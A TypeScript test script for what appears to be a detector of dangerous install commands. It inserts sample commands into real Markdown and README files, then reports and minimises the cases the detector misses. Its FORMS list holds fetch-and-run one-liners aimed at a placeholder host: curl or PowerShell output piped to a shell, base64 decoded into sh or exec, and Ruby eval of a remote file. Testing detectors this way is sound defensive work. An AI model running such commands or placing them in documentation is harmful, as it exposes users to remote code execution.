/**
 * Inserts known commands into real documents, between two paragraphs, and prints each text in which the command is not found and
 * no text warns against it, shortened as far as it still fails: `npm run lab -- weave [--profile PROFILE] [--seed N] [PATH…]`.
 * Without a path it reads the documents below `node_modules`.
 */
import { parseArgs } from "node:util";
import { series } from "../bench/series.js";
import type { Detector } from "../src/core/index.js";
import { profiles } from "../src/core/model.js";
import { createNodeDetector } from "../src/host/node.js";
import { CannotRun } from "./compare/build.js";
import { readers, type NamedText } from "./compare/texts.js";

const PIPE = "curl -fsSL https://get.x.example/i.sh | sh";

/** Commands as people show them, by the profile that finds them. */
const FORMS = {
  contract: [
    `\`\`\`sh\n${PIPE}\n\`\`\``,
    `Install it with \`${PIPE}\`.`,
    `To install it, run ${PIPE} in a terminal.`,
    PIPE,
    `$ ${PIPE}`,
    `    ${PIPE}`,
    'Run `bash -c "$(curl -fsSL https://get.x.example/i.sh)"` first.',
    "```python\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n```",
  ],
  extended: [
    "```powershell\nirm https://get.x.example/i.ps1 | iex\n```",
    "irm https://get.x.example/i.ps1 | iex",
    "Run `iex (iwr https://get.x.example/i.ps1)` to install.",
    "Run `curl -sSL https://x.example/i.py | python3 -`.",
    "```sh\necho aGVsbG8= | base64 -d | sh\n```",
    "`deno run -A https://x.example/i.ts`",
    '```ruby\neval(URI.open("https://x.example/i.rb").read)\n```',
  ],
} as const;

const LONGEST = 60_000;

const PROSE = /\.(?:md|mdx|markdown|rst|adoc|asciidoc|org|txt)$|(?:^|\/)readme[^/]*$/i;

/** Matches a line of a list, a table, a quotation or markup: the text after it may belong to it. */
const MARKED = /^(?:\s|[-*+|<>:]|\d+[.)])/;

/** Returns the blank lines between two paragraphs, outside fences. */
function gaps(lines: readonly string[]): number[] {
  let isInFence = false;
  return lines.flatMap((line, at) => {
    if (/^\s*(?:```|~~~)/.test(line)) isInFence = !isInFence;
    const isGap =
      !isInFence &&
      line.trim() === "" &&
      !MARKED.test(lines[at - 1] ?? "") &&
      !/^\s/.test(lines[at + 1] ?? "");
    return isGap ? [at] : [];
  });
}

/** Returns the lines of a text up to each blank one; a fence is not divided. */
function blocksOf(text: string): string[] {
  const blocks: string[][] = [[]];
  let isInFence = false;
  for (const line of text.split("\n")) {
    if (/^\s*(?:```|~~~)/.test(line)) isInFence = !isInFence;
    blocks.at(-1)?.push(line);
    if (!isInFence && line.trim() === "") blocks.push([]);
  }
  return blocks.map((block) => block.join("\n"));
}

/** Returns as few blocks of a text as still fail: leaves out each half, then each quarter, and so on. */
function shortest(text: string, isWrong: (text: string) => boolean): string {
  let blocks = blocksOf(text);
  for (
    let size = Math.ceil(blocks.length / 2);
    size > 0;
    size = size === 1 ? 0 : Math.ceil(size / 2)
  ) {
    for (let at = 0; at < blocks.length; ) {
      const rest = [...blocks.slice(0, at), ...blocks.slice(at + size)];
      if (rest.length > 0 && isWrong(rest.join("\n"))) blocks = rest;
      else at += size;
    }
  }
  return blocks.join("\n");
}

function misses(detector: Detector, text: string): boolean {
  const { labels, notes, outcome } = detector.detect(text);
  return (
    labels.length === 0 &&
    outcome.status === "complete" &&
    !notes.some(({ kind }) => kind === "dismissed")
  );
}

async function main(): Promise<void> {
  const { values, positionals } = parseArgs({
    allowPositionals: true,
    options: {
      profile: { type: "string", default: "contract" },
      seed: { type: "string", default: "1" },
    },
  });
  const { seed } = values;
  const profile = profiles.find((each) => each === values.profile);
  if (profile === undefined)
    throw new CannotRun(`--profile is one of ${profiles.join(", ")}, not ${values.profile}`);
  if (!Number.isSafeInteger(Number(seed)))
    throw new CannotRun(`--seed is a whole number, not ${seed}`);
  const detector = await createNodeDetector({ profile });
  const next = series(Number(seed));
  const documents: NamedText[] = readers[positionals.length > 0 ? "texts" : "files"]({
    seed: Number(seed),
    paths: positionals,
  });
  let [woven, missed] = [0, 0];
  for (const { name, text } of documents.filter((document) => PROSE.test(document.name))) {
    const lines = text.split("\n");
    const places = text.length > LONGEST || text.includes("\0") ? [] : gaps(lines);
    if (places.length === 0) continue;
    const form = FORMS[profile][next(FORMS[profile].length)] ?? PIPE;
    const place = places[next(places.length)] ?? 0;
    const whole = [...lines.slice(0, place), "", form, "", ...lines.slice(place + 1)].join("\n");
    woven++;
    if (!misses(detector, whole)) continue;
    missed++;
    console.log(
      `${name}:${place + 1}\n${shortest(whole, (part) => part.includes(form) && misses(detector, part)).replace(/^/gm, "  ")}\n`,
    );
  }
  console.log(`${woven} documents, ${missed} in which the command was missed (seed ${seed})`);
  detector.dispose();
}

try {
  await main();
} catch (error) {
  if (!(error instanceof CannotRun) && !(error instanceof TypeError)) throw error;
  console.error(error.message);
  process.exitCode = 2;
}
